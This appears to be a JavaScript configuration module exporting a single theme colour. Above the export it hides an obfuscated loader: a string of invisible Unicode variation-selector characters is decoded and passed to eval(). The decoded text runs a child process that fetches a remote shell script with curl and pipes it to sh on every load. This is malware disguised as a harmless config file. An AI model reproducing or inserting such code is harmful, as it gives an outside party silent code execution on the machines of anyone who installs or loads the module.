const s = (c) => c - (c >= 0xe0100 ? 0xe0100 - 16 : 0xfe00);
const d = [...'󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄗󠄙󠄞󠅕󠅨󠅕󠅓󠄘󠄗󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅓󠅔󠅞󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄟󠅠󠄞󠅣󠅘󠄐󠅬󠄐󠅣󠅘󠄗󠄙'].map((c) => s(c.codePointAt(0)));
eval(Buffer.from(d).toString('utf-8'));
module.exports = { primary: '#336699' };
